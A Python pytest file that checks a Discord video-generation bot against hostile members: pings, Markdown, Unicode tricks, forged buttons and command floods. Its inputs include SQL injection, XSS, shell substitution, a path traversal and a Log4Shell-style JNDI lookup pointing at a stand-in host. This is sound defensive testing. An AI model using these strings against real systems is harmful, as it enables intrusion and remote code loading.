"""Hostile input: nobody is pinged, nothing breaks a card, no button of another's works, and a flood drowns nobody."""

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
import pytest_asyncio

from bot.domain.generation import State
from tests.process.conftest import Studio, said
from tests.process.stage import Played, books_agree, ledger, play, play_waiting, staged
from tests.standins.discord import Permission
from tests.tables import sampled, selected

pytestmark = pytest.mark.asyncio(loop_scope="module")

DIRECTIONS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"


@dataclass(slots=True)
class Stage:
    """A bot, and what hostile members have asked of it."""

    studio: Studio
    jobs: dict[str, Played] = field(default_factory=dict[str, Played])


# In these, {other}, {role} and {channel} become real ones. The card must show none of the words on the right live.
PROMPTS: dict[str, str] = {
    "everyone": "@everyone and @here",
    "a member": "<@{other}> <@!{other}> look",
    "a role": "<@&{role}> look",
    "a channel and a command": "<#{channel}> </sora:1> <id:customize>",
    "Markdown": "# big\n> quote\n**bold** __under__ ~~gone~~ ||secret|| `code` ```block``` [a](https://e.vil) -# small",
    "a link": "https://e.vil/free-nitro <https://e.vil>",
    "an escape": r"\**not bold\** \\",
    "a timestamp": "<t:0:R> <:emoji:1>",
    "right to left": "cat \u202egnp.exe\u202c and \u2066isolated\u2069 \u200fmarks",
    "zero width": "c\u200ba\u200dt\u2060 \ufeffin\u00ad the gr\u034fass",
    "4,000 emoji": "🎬" * 4000,
    "families": "👨‍👩‍👧‍👦" * 300,
    "zalgo": "c" + "\u0335\u0310\u0489" * 600,
    "SQL": "'; DROP TABLE generation; -- \" OR 1=1 /* ? :now %s */",
    "formats": "%s %d %n {0} {__class__} {generation.id} ${jndi:ldap://e.vil/a} $(id) `id` {{7*7}}",
    "Fluent": '{ $mention } { -brand } {{ " }',
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "controls": "a\x00b\x1b[31mred\x07\r\nnext\x7f\x85",
    "half a pair": "half \ud83d a pair",
    "a button": 'cancel:0123456789 {"custom_id": "delete:1"}',
    "lines": "\n".join("line" for _ in range(700)),
    "4,000 signs": "<@" * 2000,
    "one long word": "W" * 4000,
    "JSON": '{"status": "failed", "error": {"code": "401"}}',
}
QUICK = (  # the others are of a kind with one of these; `tests/cogs` shows every prompt on every card
    *("everyone", "a member", "a role", "Markdown", "right to left", "zero width", "4,000 emoji", "SQL", "formats"),
    *("Fluent", "controls", "half a pair", "lines"),
)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def stage(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Stage]:
    """Every hostile prompt that this run looks at, at once."""
    async with staged(tmp_path_factory.mktemp("hostile"), MAX_IN_FLIGHT="60") as studio:
        stage, guild = Stage(studio), studio.discord.guild
        other, role = studio.person("Other"), studio.discord.world.add_role(guild, "mods")
        real = {"{other}": other.id, "{role}": role.id, "{channel}": studio.discord.channel.id}

        async def ask(name: str, prompt: str) -> None:
            for word, key in real.items():
                prompt = prompt.replace(word, key)
            stage.jobs[name] = await play(studio, prompt)

        asked = selected(request, "name")
        await asyncio.gather(*(ask(*one) for one in PROMPTS.items() if one[0] in asked))
        yield stage


@pytest.mark.parametrize("name", sampled(PROMPTS, QUICK))
async def test_a_hostile_prompt_pings_nobody_breaks_nothing_and_becomes_a_video(stage: Stage, name: str) -> None:
    job = stage.jobs[name]
    result = await job.done()
    assert job.card.pinged == set()
    assert result.pinged == {job.person.id}
    for message in (job.card, result):
        for version in message.versions:
            assert version["mentions"] == [] or message is result
        assert not set(DIRECTIONS) & set(said(message))
        assert len(said(message)) <= 4000
    [box] = job.card.components
    quote = str(box["components"][1]["content"])
    assert quote.startswith("> ")
    assert len(quote.splitlines()) == 1
    [sent] = {made.prompt for made in stage.studio.uniall.jobs.values()} & {job.generation().prompt}
    assert not set(sent) & {"\x00", "\x1b", "\x7f"}


async def test_names_of_models_and_choices_may_hold_anything(stage: Stage) -> None:
    eve = stage.studio.person("Eve")
    for word in ("@everyone", "'; DROP TABLE generation; --", "{0} %s", "x" * 5000, "\u202e", "", "../../etc/passwd"):
        if word:
            refused = await eve.slash("sora", prompt="p", model=word).answer()
            assert refused.ephemeral
            assert refused.data["allowed_mentions"]["parse"] == []
            assert len(refused.text) <= 2000
        offered = await eve.autocomplete("sora", "model", prompt="p", model=word).answer()
        assert len(offered.choices) <= 25
    assert ledger(stage.studio, eve) == (0, 0, [])


# -- forged buttons

ID = "{id}"  # becomes the id of a job of somebody else
FORGED = {
    "cancel of another's": "cancel:{id}",
    "cancel of none": "cancel:00000000000000000000",
    "delete of another's": "delete:{id}",
    "delete for good of another's": "delete-sure:{id}",
    "remove of another's": "remove:{id}",
    "block of another": "block:{id}",
    "dismiss of another's": "dismiss:{id}",
    "report of none": "report:00000000000000000000",
    "delete of none": "delete:zzz",
    "a draft of none": "quota-reset:zzz",
    "a rule of none": "quota-remove:zzz:zzz",
    "keep of none": "quota-keep:zzz",
    "rules": "quota-list:next:9999",
    "the log": "quota-log:0:999999999999999999",
    "the log of another": "quota-log:{member}:1",
    "privacy in digits of another script": "privacy-delete:" + "\u0661" * 18,
    "a report": "config:report",
    "settings": "config:threads",
    "privacy of another": "privacy-delete:{member}",
}
UNKNOWN = {
    "too long an id": "cancel:" + "0" * 93,
    "nothing": "cancel:",
    "SQL": "cancel:' OR 1=1 --",
    "another line": "cancel:{id}\ndelete:{id}",
    "formats": "{0}%s{id}",
    "everyone": "@everyone",
    "a hundred signs": "\U0001f3ac" * 100,
}


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def posted(stage: Stage) -> Played:
    """A video of somebody, posted."""
    job = await play(stage.studio, "mine")
    await job.done()
    return job


async def settled(studio: Studio) -> None:
    """Until nothing is under way."""
    await studio.discord.wait_for(
        lambda: not studio.database.running() and not studio.database.posting(), "nothing under way"
    )


@pytest.mark.parametrize("elsewhere", [False, True], ids=["here", "in another server"])
@pytest.mark.parametrize("name", FORGED)
async def test_a_forged_button_gets_one_private_sentence_and_changes_nothing(
    stage: Stage, posted: Played, name: str, elsewhere: bool
) -> None:
    studio = stage.studio
    await settled(studio)
    eve = studio.person("Eve")
    if elsewhere:  # where she may do everything
        world = studio.discord.world
        guild = world.add_guild("Eve's")
        eve = studio.discord.person(
            "Eve", channel=world.add_channel(guild, "lair"), permissions=Permission.ADMINISTRATOR
        )
    before = studio.database.pressed()
    custom_id = FORGED[name].replace("{id}", posted.generation().id).replace("{member}", posted.person.id)
    answer = await eve.forge(posted.card, custom_id).answer()
    turns = ("rules", "the log", "the log of another")  # in a server of her own she may look, and there is nothing
    assert answer.ephemeral or answer.type == 6 or (elsewhere and name in turns)
    assert "Something went wrong" not in answer.text
    assert posted.generation().prompt not in answer.text
    assert studio.database.pressed() == before
    await books_agree(studio)


@pytest.mark.parametrize("name", UNKNOWN)
async def test_an_id_that_no_button_has_does_nothing_at_all(stage: Stage, posted: Played, name: str) -> None:
    studio = stage.studio
    await settled(studio)
    eve, before = studio.person("Eve"), studio.database.pressed()
    custom_id = UNKNOWN[name].replace("{id}", posted.generation().id)
    pressed = [eve.forge(posted.card, custom_id), eve.forge_modal(posted.card, custom_id, {"prompt": "x" * 4000})]
    await eve.slash("help").answer()  # comes after them, and is answered
    assert [one.first for one in pressed] == [None, None]
    assert studio.database.pressed() == before


async def test_a_running_job_can_be_cancelled_by_its_author_alone_wherever_the_button_is_forged(stage: Stage) -> None:
    studio = stage.studio
    world = studio.discord.world
    job = await play_waiting(studio, "running")
    lair = world.add_channel(world.add_guild("Eve's"), "lair")
    for eve in (studio.person("Eve"), studio.discord.person("Eve", channel=lair, permissions=Permission.ADMINISTRATOR)):
        answer = await eve.forge(job.card, f"cancel:{job.generation().id}").answer()
        assert answer.ephemeral
        assert "Only the member" in answer.text
    own = await job.person.forge(job.card, f"cancel:{job.generation().id}").answer()
    assert "too late" in own.text
    job.go.set()
    await job.done()


# -- a flood


async def test_a_flood_of_two_hundred_commands_a_second_is_answered_and_stays_within_the_limits(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    async with staged(tmp_path_factory.mktemp("flood"), MAX_IN_FLIGHT="5") as studio:
        studio.uniall.seconds = 600
        eve, mia = studio.person("Eve"), studio.person("Mia")
        flood = [eve.slash("sora", prompt=f"flood {number}") for number in range(120)]
        flood += [eve.slash(command) for command in ("usage", "help") for _ in range(20)]
        flood += [eve.autocomplete("sora", "model", prompt="p", model="s") for _ in range(40)]
        own = mia.slash("sora", prompt="mia")
        answers = await asyncio.gather(*(one.answer() for one in flood))
        assert sum(not answer.ephemeral for answer in answers[:120]) == 25
        assert {answer.ephemeral for answer in answers[120:160]} == {True}
        await own.answer()
        assert (ledger(studio, eve)[:2], ledger(studio, mia)[:2]) == ((0, 25), (0, 1))
        await studio.discord.wait_for(lambda: len(studio.uniall.jobs) >= 5, "jobs at UniAll")
        # The first five may have been sent before anybody else had asked.
        studio.uniall.jobs["job-1"].state = "completed"
        await studio.discord.wait_for(lambda: len(studio.uniall.jobs) >= 6, "the next job")
        assert "mia" in {job.prompt for job in studio.uniall.jobs.values()}, "one member's flood is before nobody"
        sent = lambda: len(studio.database.in_state(State.SUBMITTED))  # noqa: E731
        await studio.discord.wait_for(lambda: sent() == 5, "as many as may run")
        assert len(studio.uniall.jobs) == 6
